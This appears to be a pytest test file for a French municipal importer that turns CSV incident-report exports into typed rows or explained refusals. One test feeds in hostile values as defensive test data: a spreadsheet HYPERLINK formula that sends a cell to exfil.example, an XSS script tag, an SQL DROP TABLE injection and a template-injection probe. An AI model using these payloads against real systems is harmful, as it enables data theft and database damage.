"""Each line of an export becomes a typed row, or a refusal that says why and what to do."""

import unicodedata
from datetime import date, time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rappel.communes.categories import CATEGORIES
from rappel.signalement.cleaning import MAX_LENGTHS, clean_line, clean_text
from rappel.signalement.labels import (
    UnknownCategory,
    UnknownLabel,
    closest,
    label_lookup,
    shipped_origin,
)
from rappel.signalement.rows import Holder, Person, Refused, Row, read_rows
from rappel.signalement.sheet import OPTIONAL_COLUMNS, REQUIRED_COLUMNS, read_sheet
from tests.signalement.sheets import GOOD, sample, write_sheet
from tests.sizes import SIZES

TODAY = date(2026, 11, 25)
ALL_COLUMNS = (*REQUIRED_COLUMNS, *OPTIONAL_COLUMNS)
category_of = label_lookup((seed.code, seed.label, seed.aliases) for seed in CATEGORIES)
few = settings(max_examples=SIZES.property_examples, deadline=None)


def read(data: bytes, today: date = TODAY) -> list[Row | Refused]:
    return list(read_rows(read_sheet(data), today=today, category=category_of))


def one(today: date = TODAY, **values: str) -> Row | Refused:
    (row,) = read(write_sheet([{**GOOD, **values}], columns=ALL_COLUMNS), today)
    return row


def taken(**values: str) -> Row:
    row = one(**values)
    assert isinstance(row, Row), row
    return row


def refused(column: str, today: date = TODAY, **values: str) -> str:
    row = one(today, **values)
    assert isinstance(row, Refused), row
    assert (row.line, row.column) == (2, column)
    return row.reason.replace("\u00a0", " ")


# --- the samples -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "created"),
    [
        ("police-municipale-2026-10.utf8.csv", 12),
        ("police-municipale-2026-10.cp1252.csv", 10),
        ("partenaires-2026-10.utf8.csv", 8),
        ("cas-difficiles.utf8.csv", 9),
    ],
)
def test_every_line_of_the_good_samples_is_taken_in(name, created):
    rows = read(sample(name))
    assert [type(row) for row in rows] == [Row] * created
    assert len({row.key for row in rows}) == created


def test_the_windows_file_repeats_ten_authors_of_the_other():
    keys = {row.key for row in read(sample("police-municipale-2026-10.utf8.csv"))}
    assert {row.key for row in read(sample("police-municipale-2026-10.cp1252.csv"))} < keys


def test_a_row_in_full():
    first, *_ = read(sample("police-municipale-2026-10.utf8.csv"))
    assert first == Row(
        line=2,
        ref_source="PM-2026-0411",
        reported_on=date(2026, 10, 5),
        origin="municipal_police",
        reporter="Brigadier P. Lemercier",
        facts_on=date(2026, 10, 2),
        facts_at=time(23, 40),
        place="Square des Tilleuls",
        district="Les Tilleraies",
        category="noise",
        category_label="nuisances sonores",
        description=(
            "Regroupement avec enceinte portative, musique amplifiée audible à plus de cinquante "
            "mètres malgré deux demandes de baisser le volume."
        ),
        person=Person(
            civility="M.",
            family_name="Wójcik",
            given_names="Łukasz",
            birth_date=date(1999, 3, 14),
            address1="12 allée des Mésanges",
            address2="Bât. C, appt 34",
            postcode="95999",
            town="Valmont-sur-Oise",
            country="",
            phone="06 39 98 10 01",
            email="",
        ),
        holders=(),
        complaint="no",
        inquiry="no",
        other_commune="",
        fined="",
        report_number="",
        text_breached="",
    )
    assert first.key == ("PM-2026-0411", "wojcik lukasz")


def test_two_authors_of_one_report_are_two_rows_and_two_keys():
    rows = [
        row
        for row in read(sample("police-municipale-2026-10.utf8.csv"))
        if row.ref_source == "PM-2026-0427"
    ]
    assert [row.key[1] for row in rows] == ["obrien sean", "nguyen van"]


def test_holders_of_the_samples():
    rows = {row.key: row for row in read(sample("police-municipale-2026-10.utf8.csv"))}
    ibrahim = rows["PM-2026-0415", "traore ibrahim"]
    assert ibrahim.holders == (
        Holder("mère", "Traoré", "Aminata", "7 mail Colette", "95999", "Valmont-sur-Oise", "", ""),
        Holder("père", "Traoré", "Mamadou", "31 quai de l'Écluse", "60999", "Pont-Aval", "", ""),
    )
    assert rows["PM-2026-0418", "legoff ewen"].holders[0].quality == "père"


def test_blanks_of_the_samples_stay_blank():
    rows = {row.key[1]: row for row in read(sample("cas-difficiles.utf8.csv"))}
    kowalski = rows["kowalski jan"]
    assert kowalski.person.birth_date is None
    assert (kowalski.complaint, kowalski.inquiry) == ("", "no")
    belgian = read(sample("partenaires-2026-10.utf8.csv"))[6].person
    assert (belgian.postcode, belgian.country) == ("7999", "Belgique")
    assert read(sample("partenaires-2026-10.utf8.csv"))[0].facts_at is None
    assert rows["sanchez hugo"].district == ""


@pytest.mark.rule("R3")
def test_complaint_and_inquiry_of_the_samples():
    police = {row.key[1]: row for row in read(sample("police-municipale-2026-10.utf8.csv"))}
    assert police["bonnefoy clemence"].complaint == "yes"
    partners = {row.key[1]: row for row in read(sample("partenaires-2026-10.utf8.csv"))}
    assert partners["morel enzo"].inquiry == "yes"


def test_the_faulty_lines_behave_as_written():
    rows = read(sample("lignes-fautives.utf8.csv"))
    assert [(row.line, row.column) for row in rows if isinstance(row, Refused)] == [
        (2, "date_signalement"),
        (3, "date_faits"),
        (4, "heure_faits"),
        (5, "qualification"),
        (6, "auteur_nom"),
        (9, "auteur_date_naissance"),
    ]
    assert [row.ref_source for row in rows if isinstance(row, Row)] == [
        "BAD-06",
        "BAD-07",
        "BAD-09",
    ]


def test_hostile_text_is_taken_literally():
    sixth, seventh = [
        row
        for row in read(sample("lignes-fautives.utf8.csv"))
        if isinstance(row, Row) and row.ref_source in ("BAD-06", "BAD-07")
    ]
    assert sixth.description == '=HYPERLINK("http://exfil.example/?"&A1;"clic")'
    assert (sixth.person.family_name, sixth.person.given_names) == ("=1+1", "@SUM(A1)")
    assert sixth.person.address1 == "+33 rue"
    assert seventh.description == (
        "Balises <b>gras</b> & <img src='http://127.0.0.1:9/x.png'/> <para>piège</para> "
        "{{ 7*7 }} %s"
    )
    assert seventh.person.family_name == "<script>alert(1)</script>"
    assert seventh.person.given_names == "Robert'); DROP TABLE rappel_case;--"


@pytest.mark.rule("R20b")
def test_a_child_under_eight_is_taken_in_with_a_notice():
    (notice,) = read(sample("lignes-fautives.utf8.csv"))[-1].notices
    assert notice.startswith("Moins de 8 ans")
    assert "R20b" in notice
    assert taken(auteur_date_naissance="02/10/2018").notices == ()
    assert taken(auteur_date_naissance="03/10/2018").notices != ()


@pytest.mark.rule("R6")
@pytest.mark.parametrize(
    ("day", "said"),
    [("25/11/2025", "trois mois"), ("24/11/2025", "un an"), ("24/08/2026", "trois mois")],
)
def test_old_facts_are_taken_in_with_a_notice(day, said):
    (notice,) = taken(date_faits=day).notices
    assert said in notice
    assert taken(date_faits="25/08/2026").notices == ()


# --- dates and hours ---------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["date_signalement", "date_faits"])
@pytest.mark.parametrize(
    "text",
    ["32/10/2026", "29/02/2026", "00/10/2026", "05/10/26", "hier", "05/10/0026", "05/13/2026"],
)
def test_a_date_that_does_not_exist_is_refused(column, text):
    reason = refused(column, **{column: text})
    assert f"« {text} »" in reason
    assert "jj/mm/aaaa" in reason


@pytest.mark.parametrize("column", ["date_signalement", "date_faits"])
def test_a_missing_date_is_refused(column):
    assert "La date manque" in refused(column, **{column: " "})


def test_a_future_date_is_refused_and_today_is_not():
    today = date(2026, 10, 5)
    assert isinstance(one(today, date_faits="05/10/2026"), Row)
    assert "futur" in refused("date_signalement", date(2026, 10, 4))
    assert "futur" in refused("date_faits", date_faits="12/12/2027")


def test_facts_after_their_own_report_are_refused():
    assert "après le signalement" in refused("date_faits", date_faits="06/10/2026")


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("", None),
        ("23:40", time(23, 40)),
        ("9:05", time(9, 5)),
        ("23h40", time(23, 40)),
        ("23 h 40", time(23, 40)),
        ("00:00", time(0, 0)),
    ],
)
def test_hours(text, at):
    assert taken(heure_faits=text).facts_at == at


@pytest.mark.parametrize("text", ["25:99", "24:00", "12:60", "midi", "-1:00", "2340"])
def test_an_hour_that_does_not_exist_is_refused(text):
    reason = refused("heure_faits", heure_faits=text)
    assert f"« {text} »" in reason
    assert "ou rien" in reason


# --- who ---------------------------------------------------------------------------------------


@pytest.mark.rule("R5")
@pytest.mark.parametrize(
    ("values", "column", "said"),
    [
        ({"auteur_nom": "", "auteur_prenoms": ""}, "auteur_nom", "Le nom et le prénom"),
        ({"auteur_nom": "  "}, "auteur_nom", "Le nom de l'auteur manque "),
        ({"auteur_prenoms": ""}, "auteur_prenoms", "Le prénom de l'auteur manque "),
        ({"auteur_nom": "???"}, "auteur_nom", "Le nom de l'auteur manque "),
        ({"auteur_prenoms": "- Paul"}, "auteur_prenoms", "Le prénom de l'auteur manque "),
    ],
)
def test_a_person_without_a_name_is_refused(values, column, said):
    reason = refused(column, **values)
    assert reason.startswith(said)
    assert "règle R5" in reason
    assert "Complétez la ligne" in reason


@pytest.mark.rule("R5")
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("14/03/2027", "après les faits"),
        ("03/10/2026", "après les faits"),
        ("14/03/1899", "plus de 120 ans"),
        ("31/04/1999", "mal écrite"),
        ("1999", "mal écrite"),
    ],
)
def test_a_birth_date_that_cannot_be_is_refused_without_repeating_it(text, said):
    reason = refused("auteur_date_naissance", auteur_date_naissance=text)
    assert said in reason
    assert text not in reason


def test_a_birth_on_the_day_of_the_facts_or_unknown_is_possible():
    assert taken(auteur_date_naissance="02/10/2026").person.birth_date == date(2026, 10, 2)
    assert taken(auteur_date_naissance="").person.birth_date is None


@pytest.mark.parametrize(
    ("text", "civility"),
    [("M.", "M."), ("Monsieur", "M."), ("MME", "Mme"), ("madame", "Mme"), ("", "")],
)
def test_civilities(text, civility):
    assert taken(auteur_civilite=text).person.civility == civility


def test_another_civility_is_refused():
    assert "écrivez M. ou Mme" in refused("auteur_civilite", auteur_civilite="Dr")


@pytest.mark.rule("R5")
@pytest.mark.parametrize("text", ["Société", "SARL", "S.A.S.", "association"])
def test_a_legal_person_is_refused(text):
    reason = refused("auteur_civilite", auteur_civilite=text)
    assert "personne morale" in reason
    assert "règle R5" in reason


def test_addresses_keep_what_was_written():
    person = taken(auteur_code_postal="95 999", auteur_pays="FRANCE").person
    assert (person.postcode, person.country) == ("95999", "")
    assert taken(auteur_code_postal="SW1A 1AA", auteur_pays="Royaume-Uni").person.postcode == (
        "SW1A 1AA"
    )


def test_a_holder_is_kept_as_soon_as_something_is_known():
    row = taken(rl2_nom="Traoré", rl2_telephone="06 39 98 10 01", rl2_contact="père")
    assert row.holders == (Holder("", "Traoré", "", "", "", "", "06 39 98 10 01", "père"),)
    assert taken(rl1_nom=" ").holders == ()


# --- answers and closed lists ------------------------------------------------------------------


@pytest.mark.rule("R3")
@pytest.mark.parametrize(
    ("column", "name"),
    [("plainte", "complaint"), ("procedure_judiciaire", "inquiry"), ("amende_dressee", "fined")],
)
def test_answers(column, name):
    for text, answer in [
        ("oui", "yes"),
        ("NON", "no"),
        ("Ne sait pas", ""),
        ("", ""),
    ]:
        assert getattr(taken(**{column: text}), name) == answer
    for text in ("peut-être", "o", "oui ?", "1", "non non"):
        reason = refused(column, **{column: text})
        assert f"« {text} »" in reason
        assert "oui, non ou ne sait pas" in reason
        assert "R3" in reason


@pytest.mark.rule("R29")
def test_an_unknown_category_is_refused_naming_the_three_closest():
    reason = refused("qualification", qualification="nuisance sonnore nocturne")
    assert "règle R29" in reason
    assert "« nuisances sonores »" in reason
    assert reason.count("« ") == 4


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("NUISANCES SONORES", "noise"),
        ("Depot sauvage", "fly_tipping"),
        ("tapage nocturne", "noise"),
        ("rodéo urbain", "joyride"),
        ("tags", "damage"),
        ("Vol à l’étalage", "theft"),
    ],
)
def test_categories_are_known_by_label_or_alias_whatever_accents_and_capitals(text, code):
    row = taken(qualification=text)
    assert (row.category, row.category_label) == (code, text)


@pytest.mark.rule("R29")
def test_an_unknown_or_missing_origin_is_refused():
    reason = refused("origine", origine="la rumeur")
    assert "règle R29" in reason
    assert "origine de la liste" in reason
    assert "L'origine manque" in refused("origine", origine="")
    assert taken(origine="RIVERAINS").origin == "resident"


def test_a_commune_brings_its_own_lists():
    rows = read_rows(
        read_sheet(write_sheet([{**GOOD, "origine": "brigade verte", "qualification": "bavard"}])),
        today=TODAY,
        category=label_lookup([("chatter", "bavardage", ["bavard"])]),
        origin=label_lookup([("green", "brigade verte", [])], UnknownLabel),
    )
    (row,) = rows
    assert (row.origin, row.category) == ("green", "chatter")


def test_the_closest_labels_come_best_first_and_a_label_wins_over_an_alias():
    labels = ["vol à l'étalage", "violences", "incivilité", "menaces"]
    assert closest("violance", labels)[0] == "violences"
    assert len(closest("", labels)) == 3
    assert len(closest("vol", labels, n=1)) == 1
    lookup = label_lookup([("a", "bruit", ["tapage"]), ("b", "tapage", [])])
    assert lookup("Tapage") == "b"
    with pytest.raises(UnknownCategory) as unknown:
        lookup("tapages")
    assert unknown.value.closest[0] == "tapage"
    assert shipped_origin("école") == "school"


# --- text --------------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["ref_source", "lieu", "description"])
def test_what_is_needed_to_go_on_is_asked_for(column):
    assert "manque" in refused(column, **{column: ""})


@pytest.mark.rule("R29")
@pytest.mark.parametrize(
    "column",
    sorted(set(MAX_LENGTHS) - {"origine", "qualification", "auteur_civilite"}),
)
def test_a_text_too_long_is_refused_never_cut(column):
    most = MAX_LENGTHS[column]
    assert isinstance(one(**{column: "a" * most}), Row)
    reason = refused(column, **{column: "a" * (most + 1)})
    assert reason.startswith(f"Le texte est trop long : {most + 1} caractères, pour {most} au plus")


@pytest.mark.parametrize("column", ["origine", "qualification"])
def test_a_label_too_long_is_said_once(column):
    reason = refused(column, **{column: "a" * 400})
    assert reason.count("trop long") == 1
    assert "Aussi" not in reason


def test_every_text_column_has_a_length():
    judged = {"date_signalement", "date_faits", "heure_faits", "auteur_date_naissance"}
    judged |= {"plainte", "procedure_judiciaire", "amende_dressee"}
    assert set(ALL_COLUMNS) - judged == set(MAX_LENGTHS)


def test_a_hostile_value_is_quoted_short():
    reason = refused("heure_faits", heure_faits="9" * 5000)
    assert len(reason) < 200


def test_texts_are_composed_trimmed_and_free_of_invisible_characters():
    row = taken(
        auteur_nom=unicodedata.normalize("NFD", "\ufeff Wójcik\u200b "),
        lieu="Square\r\n des\u00a0\tTilleuls\x07",
        description=" Un\x00\r\n\r\ndeux \u202etrois \r quatre\x85cinq ".replace("\x00", ""),
    )
    assert row.person.family_name == "Wójcik"
    assert row.place == "Square des Tilleuls"
    assert row.description == "Un\n\ndeux trois\nquatre cinq"


@few
@given(st.text())
def test_cleaning_twice_changes_nothing(text):
    for clean in (clean_line, clean_text):
        once = clean(text)
        assert clean(once) == once == unicodedata.normalize("NFC", once)
        assert not any(
            unicodedata.category(char).startswith("C") for char in once.replace("\n", "")
        )
    assert "\n" not in clean_line(text)


# --- several faults, several lines -------------------------------------------------------------


def test_all_faults_of_a_line_are_told_at_once_in_one_refusal():
    reason = refused("date_faits", date_faits="x", heure_faits="y", plainte="z")
    assert "Aussi, colonne « heure_faits » : L'heure « y »" in reason
    assert "Aussi, colonne « plainte » : La réponse « z »" in reason


def test_good_lines_are_kept_between_faulty_and_broken_ones():
    header, *_ = write_sheet([], encoding="utf-8").decode().splitlines()
    good = write_sheet([GOOD], encoding="utf-8").decode().splitlines()[1]
    bad = good.replace("02/10/2026", "32/10/2026")
    data = "\n".join([header, good, bad, '"cassée', good, "trop;court", good]).encode()
    rows = read(data)
    assert [(row.line, type(row)) for row in rows] == [
        (2, Row),
        (3, Refused),
        (4, Refused),
        (5, Row),
        (6, Refused),
        (7, Row),
    ]
    assert rows[2].column == rows[4].column == ""


def test_every_refusal_is_one_or_more_whole_sentences():
    for row in read(sample("lignes-fautives.utf8.csv")):
        if isinstance(row, Refused):
            assert row.reason[0].isupper() or row.reason[0] == "«"
            assert row.reason.endswith(".")


# --- round trip --------------------------------------------------------------------------------

words = st.text(st.sampled_from("abc éèçÉŒœ'-;\"<>&=+@{}%,."), max_size=30).map(clean_line)
names = st.text(st.sampled_from("abcdeéÉçœ-'"), max_size=20).map(lambda text: f"N{text}")
past = st.dates(date(2025, 12, 1), TODAY)


@st.composite
def expected_rows(draw, line):
    """Draw a row, and the line a service would write for it."""
    facts_on = draw(past)
    birth = draw(st.none() | st.dates(date(1930, 1, 1), date(2015, 1, 1)))
    at = draw(st.none() | st.times().map(lambda at: at.replace(second=0, microsecond=0)))
    answers = st.sampled_from([("oui", "yes"), ("non", "no"), ("ne sait pas", ""), ("", "")])
    complaint, inquiry, fined = draw(answers), draw(answers), draw(answers)
    seed = draw(st.sampled_from(CATEGORIES))
    texts = {
        column: draw(words)
        for column in (
            *("signalant", "quartier", "auteur_adresse1", "auteur_adresse2", "auteur_ville"),
            *("auteur_telephone", "auteur_courriel", "commune_faits", "ref_rapport"),
            *("rl1_qualite", "rl1_prenoms", "rl1_adresse1", "rl1_ville", "rl1_contact"),
        )
    }
    typed = {
        **texts,
        "ref_source": f"PM-{line}",
        "date_signalement": TODAY.strftime("%d/%m/%Y"),
        "origine": "gendarmerie",
        "date_faits": facts_on.strftime("%d/%m/%Y"),
        "heure_faits": at.strftime("%H:%M") if at else "",
        "lieu": "Été, près de l'église",
        "qualification": draw(st.sampled_from([seed.label, seed.label.upper(), *seed.aliases])),
        "description": f"Faits{draw(words)}",
        "auteur_civilite": draw(st.sampled_from(["", "M.", "Mme"])),
        "auteur_nom": draw(names),
        "auteur_prenoms": draw(names),
        "auteur_date_naissance": birth.strftime("%d/%m/%Y") if birth else "",
        "auteur_code_postal": "95999",
        "rl1_nom": draw(names),
        "plainte": complaint[0],
        "procedure_judiciaire": inquiry[0],
        "amende_dressee": fined[0],
    }
    notices = ()
    if facts_on < date(2026, 8, 25):
        notices = ("Faits de plus de trois mois (règle R6).",)
    row = Row(
        line=line,
        ref_source=typed["ref_source"],
        reported_on=TODAY,
        origin="gendarmerie",
        reporter=texts["signalant"],
        facts_on=facts_on,
        facts_at=at,
        place=typed["lieu"],
        district=texts["quartier"],
        category=seed.code,
        category_label=typed["qualification"],
        description=typed["description"],
        person=Person(
            civility=typed["auteur_civilite"],
            family_name=typed["auteur_nom"],
            given_names=typed["auteur_prenoms"],
            birth_date=birth,
            address1=texts["auteur_adresse1"],
            address2=texts["auteur_adresse2"],
            postcode="95999",
            town=texts["auteur_ville"],
            country="",
            phone=texts["auteur_telephone"],
            email=texts["auteur_courriel"],
        ),
        holders=(
            Holder(
                quality=texts["rl1_qualite"],
                family_name=typed["rl1_nom"],
                given_names=texts["rl1_prenoms"],
                address1=texts["rl1_adresse1"],
                postcode="",
                town=texts["rl1_ville"],
                phone="",
                contact=texts["rl1_contact"],
            ),
        ),
        complaint=complaint[1],
        inquiry=inquiry[1],
        other_commune=texts["commune_faits"],
        fined=fined[1],
        report_number=texts["ref_rapport"],
        text_breached="",
        notices=notices,
    )
    return typed, row


@few
@given(
    drawn=st.tuples(expected_rows(2), expected_rows(3)),
    columns=st.permutations(ALL_COLUMNS),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
    new_line=st.sampled_from(["\r\n", "\n"]),
)
def test_a_sheet_reads_back_as_the_rows_it_was_made_of(drawn, columns, encoding, new_line):
    data = write_sheet(
        [typed for typed, _ in drawn], columns=columns, encoding=encoding, new_line=new_line
    )
    assert read(data) == [row for _, row in drawn]
